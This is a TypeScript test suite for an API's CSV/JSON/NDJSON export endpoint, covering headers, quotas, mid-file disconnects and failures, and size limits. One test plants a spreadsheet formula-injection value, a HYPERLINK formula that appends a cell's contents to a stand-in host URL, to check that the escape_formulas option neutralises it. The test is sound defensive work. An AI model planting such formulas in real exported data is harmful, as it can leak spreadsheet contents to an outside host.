import { request as httpRequest, type IncomingMessage } from 'node:http';
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { createInMemoryPersistence } from '../../src/adapters/persistence/memory/in-memory-persistence.ts';
import type {
  ItemAggregateRequest,
  ItemGetRequest,
  ItemKeysRequest,
  ItemListRequest,
  ItemListResult,
  ItemStore,
  ItemWriter,
} from '../../src/application/ports/item-store.ts';
import { liveSnapshot } from '../../src/application/ports/item-store.ts';
import { TYPES } from '../../src/container.ts';
import { startTestApp, type TestApp } from '../support/test-app.ts';
import { assertError } from './scenario.ts';

/**
 * GET /items/:collection?export= over a socket (docs/api.md §13): the download's headers, the export
 * quota, and what happens when either end goes away mid-file. The store's reads pass a gate the test
 * holds, so "mid-file" is a state the test chooses, not a race.
 */

/** The item store with every list read counted and, while `hold` is set, made to wait for `release()`. */
class GatedStore implements ItemStore {
  lists = 0;
  /** The read that waits at the gate (1-based); Infinity: none. */
  holdAt = Number.POSITIVE_INFINITY;
  /** Reads from this one on fail. */
  failFrom = Number.POSITIVE_INFINITY;
  private gate: { promise: Promise<void>; open: () => void } = openGate();
  private waiting: Array<() => void> = [];

  constructor(private readonly inner: ItemStore) {}

  async list(request: ItemListRequest): Promise<ItemListResult> {
    this.lists++;
    // A read takes an I/O turn, as a database's does, in which the server sees its sockets.
    await new Promise((resolve) => setTimeout(resolve, 1));
    if (this.lists >= this.failFrom) throw new Error('connection to the database lost');
    if (this.lists === this.holdAt) {
      for (const notify of this.waiting.splice(0)) notify();
      await this.gate.promise;
    }
    return this.inner.list(request);
  }

  /** Reads through the gate as the export's pages do; the store underneath is memory, live. */
  async snapshot() {
    return liveSnapshot(this);
  }

  /** Resolves once a read waits at the gate. */
  held(): Promise<void> {
    return new Promise((resolve) => this.waiting.push(resolve));
  }

  release(): void {
    this.holdAt = Number.POSITIVE_INFINITY;
    this.gate.open();
    this.gate = openGate();
  }

  get(request: ItemGetRequest) {
    return this.inner.get(request);
  }

  getMany(request: ItemKeysRequest) {
    return this.inner.getMany(request);
  }

  aggregate(request: ItemAggregateRequest) {
    return this.inner.aggregate(request);
  }

  write<T>(work: (writer: ItemWriter) => Promise<T>): Promise<T> {
    return this.inner.write(work);
  }
}

function openGate() {
  let open = () => {};
  const promise = new Promise<void>((resolve) => {
    open = resolve;
  });
  return { promise, open };
}

type Context = { app: TestApp; store: GatedStore; admin: string; other: string };

const ROWS = 40;
const PAGE_ROWS = 10;

/** A GET whose response is handed over at its headers, the body still unread. */
function open(app: TestApp, path: string, token: string): Promise<IncomingMessage> {
  return new Promise((resolve, reject) => {
    const request = httpRequest(`${app.url}${path}`, { headers: { Authorization: `Bearer ${token}` } });
    request.on('response', resolve);
    request.on('error', reject);
    request.end();
  });
}

/** The whole body, or the error that cut it off. */
function body(response: IncomingMessage): Promise<string> {
  return new Promise((resolve, reject) => {
    let text = '';
    response.setEncoding('utf8');
    response.on('data', (chunk: string) => (text += chunk));
    response.on('end', () => resolve(text));
    response.on('error', reject);
    response.on('aborted', () => reject(new Error('aborted')));
  });
}

const exports = suite<Context>('export over HTTP');

exports.before.each(async (context) => {
  const persistence = createInMemoryPersistence();
  const store = new GatedStore(persistence.items);
  const app = await startTestApp({
    persistence,
    env: { EXPORT_PAGE_ROWS: String(PAGE_ROWS) },
    captureLogs: true,
    rebind: (container) => container.rebind<ItemStore>(TYPES.ItemStore).toConstantValue(store),
  });
  const admin = (await app.login(await app.seedAdmin())).access_token;
  const created = await app.request('POST', '/collections', {
    token: admin,
    body: {
      collection: 'parcels',
      fields: [
        { field: 'id', type: 'integer', schema: { is_primary_key: true } },
        { field: 'label', type: 'string' },
      ],
    },
  });
  assert.is(created.status, 200, created.text);
  const rows = Array.from({ length: ROWS }, (_, index) => ({ id: index + 1, label: `parcel ${index + 1}` }));
  assert.is((await app.request('POST', '/items/parcels', { token: admin, body: rows })).status, 200);
  const role = await app.createRole({ name: 'Reader' });
  await app.request('POST', '/permissions', {
    token: admin,
    body: { role: role.id, collection: 'parcels', action: 'read', fields: ['*'] },
  });
  const other = (await app.login(await app.createUser({ role: role.id }))).access_token;
  store.lists = 0;
  Object.assign(context, { app, store, admin, other });
});

exports.after.each(({ app }) => app.close());

exports('a download: media type, attachment with a safe file name, every row', async ({ app, admin }) => {
  const stamp = app.clock
    .now()
    .toISOString()
    .replace(/[-:]/g, '')
    .replace(/\.\d+Z$/, 'Z');
  for (const [format, type] of [
    ['csv', 'text/csv; charset=utf-8'],
    ['json', 'application/json; charset=utf-8'],
    ['ndjson', 'application/x-ndjson; charset=utf-8'],
  ] as const) {
    const response = await fetch(`${app.url}/items/parcels?export=${format}`, {
      headers: { Authorization: `Bearer ${admin}` },
    });
    assert.is(response.status, 200);
    assert.is(response.headers.get('content-type'), type);
    assert.is(
      response.headers.get('content-disposition'),
      `attachment; filename="parcels-${stamp}.${format}"`,
    );
    assert.is(response.headers.get('x-content-type-options'), 'nosniff');
    const text = await response.text();
    if (format === 'csv') assert.is(text.split('\r\n').length, ROWS + 2);
    if (format === 'json') assert.is((JSON.parse(text) as unknown[]).length, ROWS);
    if (format === 'ndjson') assert.is(text.split('\n').length, ROWS + 1);
  }
  // The name percent-encoded is the same parameter (a JSON filter's encoding beside it is no export).
  const encoded = await fetch(
    `${app.url}/items/parcels?%65xp%6Frt=json&filter=${encodeURIComponent('{"id":{"_gt":0}}')}`,
    { headers: { Authorization: `Bearer ${admin}` } },
  );
  assert.is(encoded.status, 200);
  assert.is(encoded.headers.get('content-disposition')?.startsWith('attachment;'), true);
  assert.is((JSON.parse(await encoded.text()) as unknown[]).length, ROWS);
  const head = await fetch(`${app.url}/items/parcels?export=csv`, {
    method: 'HEAD',
    headers: { Authorization: `Bearer ${admin}` },
  });
  assert.is(head.status, 200);
  assert.is(head.headers.get('content-type'), 'text/csv; charset=utf-8');
  assert.is(await head.text(), '');
});

exports(
  'without export the path is the list, and an aggregate cannot be exported',
  async ({ app, admin }) => {
    const list = await app.request('GET', '/items/parcels?limit=2&fields=id', { token: admin });
    assert.equal(list.body, [{ id: 1 }, { id: 2 }]);
    assertError(
      await app.request('GET', '/items/parcels?export=csv&aggregate[count]=*', { token: admin }),
      400,
      'INVALID_QUERY',
    );
    for (const query of ['export[]=csv', 'export[csv]=1', 'export=csv&export=json']) {
      assertError(
        await app.request('GET', `/items/parcels?${query}`, { token: admin }),
        400,
        'INVALID_QUERY',
        'export',
      );
    }
    const anonymous = await app.request('GET', '/items/parcels?export=csv');
    assert.equal(anonymous.body, (await app.request('GET', '/items/parcels')).body);
  },
);

exports(
  'escape_formulas=true writes a CSV for a spreadsheet; it is refused for other formats and values',
  async ({ app, admin }) => {
    const labels = ['=HYPERLINK("http://x.test?"&A1)', '@SUM(1)', '-5', 'plain'];
    await app.request('PATCH', '/items/parcels', {
      token: admin,
      body: labels.map((label, index) => ({ id: index + 1, label })),
    });
    const csv = async (query: string) => {
      const response = await fetch(`${app.url}/items/parcels?export=csv&fields=label&limit=4&${query}`, {
        headers: { Authorization: `Bearer ${admin}` },
      });
      const text = await response.text();
      assert.is(response.status, 200, text);
      return text;
    };
    assert.is(
      await csv('escape_formulas=true'),
      `label\r\n"'=HYPERLINK(""http://x.test?""&A1)"\r\n'@SUM(1)\r\n-5\r\nplain\r\n`,
    );
    // By default (and with false) every text is written as it is, so that the file imports back exactly.
    const plain = `label\r\n"=HYPERLINK(""http://x.test?""&A1)"\r\n@SUM(1)\r\n-5\r\nplain\r\n`;
    assert.is(await csv(''), plain);
    assert.is(await csv('escape_formulas=false'), plain);
    for (const query of [
      'export=json&escape_formulas=true',
      'export=ndjson&escape_formulas=false',
      'export=csv&escape_formulas=1',
      'export=csv&escape_formulas=true&escape_formulas=true',
      'export=csv&escape_formulas[]=true',
    ]) {
      assertError(
        await app.request('GET', `/items/parcels?${query}`, { token: admin }),
        400,
        'INVALID_QUERY',
        'escape_formulas',
      );
    }
  },
);

exports(
  'one export per caller at a time: the next is 429 until the first ends',
  async ({ app, store, admin, other }) => {
    store.holdAt = 2;
    const held = store.held();
    const first = await open(app, '/items/parcels?export=csv', admin);
    assert.is(first.statusCode, 200);
    await held;
    const second = await app.request('GET', '/items/parcels?export=json', { token: admin });
    assertError(second, 429, 'TOO_MANY_REQUESTS');
    assert.is(
      (second.body as { errors: [{ extensions: { reason: string } }] }).errors[0].extensions.reason,
      'TOO_MANY_EXPORTS',
    );
    assert.ok(Number(second.headers.get('retry-after')) >= 1);
    // Another caller has a quota of its own, and the first caller's lists still answer.
    const others = await fetch(`${app.url}/items/parcels?export=ndjson&limit=5`, {
      headers: { Authorization: `Bearer ${other}` },
    });
    assert.is(others.status, 200);
    assert.is((await others.text()).split('\n').length, 6);
    assert.is((await app.request('GET', '/items/parcels?limit=1', { token: admin })).status, 200);
    store.release();
    assert.is((await body(first)).split('\r\n').length, ROWS + 2);
    const third = await fetch(`${app.url}/items/parcels?export=csv`, {
      headers: { Authorization: `Bearer ${admin}` },
    });
    assert.is(third.status, 200);
    await third.text();
  },
);

exports(
  'a client gone mid-file: the export stops reading and gives its place back',
  async ({ app, store, admin }) => {
    store.holdAt = 2;
    const held = store.held();
    const response = await open(app, '/items/parcels?export=ndjson', admin);
    assert.is(response.statusCode, 200);
    await held;
    const closed = new Promise((resolve) => response.socket.once('close', resolve));
    response.destroy();
    await closed;
    store.release();
    // The page under way is read; none after it.
    for (let turn = 0; turn < 20 && store.lists < 2; turn++)
      await new Promise((resolve) => setTimeout(resolve, 10));
    const again = await fetch(`${app.url}/items/parcels?export=ndjson`, {
      headers: { Authorization: `Bearer ${admin}` },
    });
    assert.is(again.status, 200, 'the quota was given back');
    assert.is((await again.text()).split('\n').length, ROWS + 1);
    assert.is(
      store.lists,
      2 + ROWS / PAGE_ROWS + 1,
      'the abandoned export read no page after the one under way',
    );
  },
);

exports(
  'a failure mid-file cuts the connection: never a file that looks whole',
  async ({ app, store, admin }) => {
    store.failFrom = 2;
    const response = await open(app, '/items/parcels?export=json', admin);
    assert.is(response.statusCode, 200);
    try {
      await body(response);
      assert.unreachable('the body ended as if whole');
    } catch (error) {
      assert.not.instance(error, assert.Assertion);
    }
    assert.ok(app.logs.some((line) => line.msg === 'export cut off mid-file'));
    store.failFrom = Number.POSITIVE_INFINITY;
    assert.is((await app.request('GET', '/items/parcels?limit=1', { token: admin })).status, 200);
  },
);

exports('a failure on the first page is an ordinary error answer', async ({ app, store, admin }) => {
  store.failFrom = 1;
  const response = await app.request('GET', '/items/parcels?export=csv', { token: admin });
  assert.is(response.status, 500);
  assert.is(response.headers.get('content-disposition'), null);
});

exports(
  'a page over export.pageMaxBytes is read again in halves; a row over it is refused before any byte',
  async () => {
    const app = await startTestApp({ env: { EXPORT_PAGE_ROWS: '10', EXPORT_PAGE_MAX_BYTES: '120' } });
    try {
      const admin = (await app.login(await app.seedAdmin())).access_token;
      const create = await app.request('POST', '/collections', {
        token: admin,
        body: {
          collection: 'notes',
          fields: [
            { field: 'id', type: 'integer', schema: { is_primary_key: true } },
            { field: 'text', type: 'text' },
          ],
        },
      });
      assert.is(create.status, 200, create.text);
      const notes = Array.from({ length: 25 }, (_, index) => ({ id: index + 1, text: `note ${index + 1}` }));
      assert.is((await app.request('POST', '/items/notes', { token: admin, body: notes })).status, 200);
      const all = await fetch(`${app.url}/items/notes?export=json`, {
        headers: { Authorization: `Bearer ${admin}` },
      });
      assert.is(all.status, 200);
      assert.equal(JSON.parse(await all.text()), notes);
      await app.request('PATCH', '/items/notes/1', { token: admin, body: { text: 'x'.repeat(200) } });
      const refused = await app.request('GET', '/items/notes?export=csv', { token: admin });
      assertError(refused, 400, 'RESPONSE_TOO_LARGE');
      assert.is(refused.headers.get('content-disposition'), null);
    } finally {
      await app.close();
    }
  },
);

exports('the directus profile downloads the same file, not wrapped in data', async () => {
  const app = await startTestApp({ env: { API_PROFILE: 'directus' } });
  try {
    const login = await app.request('POST', '/auth/login', { body: await app.seedAdmin() });
    const admin = (login.body as { data: { access_token: string } }).data.access_token;
    const response = await fetch(`${app.url}/items/datagate_nothing?export=json`, {
      headers: { Authorization: `Bearer ${admin}` },
    });
    assert.is(response.status, 404);
    const created = await app.request('POST', '/collections', {
      token: admin,
      body: {
        collection: 'pads',
        fields: [{ field: 'id', type: 'integer', schema: { is_primary_key: true } }],
      },
    });
    assert.is(created.status, 200, created.text);
    await app.request('POST', '/items/pads', { token: admin, body: [{ id: 1 }, { id: 2 }] });
    const file = await fetch(`${app.url}/items/pads?export=json&meta=*`, {
      headers: { Authorization: `Bearer ${admin}` },
    });
    assert.is(await file.text(), '[{"id":1},{"id":2}]');
  } finally {
    await app.close();
  }
});

exports.run();
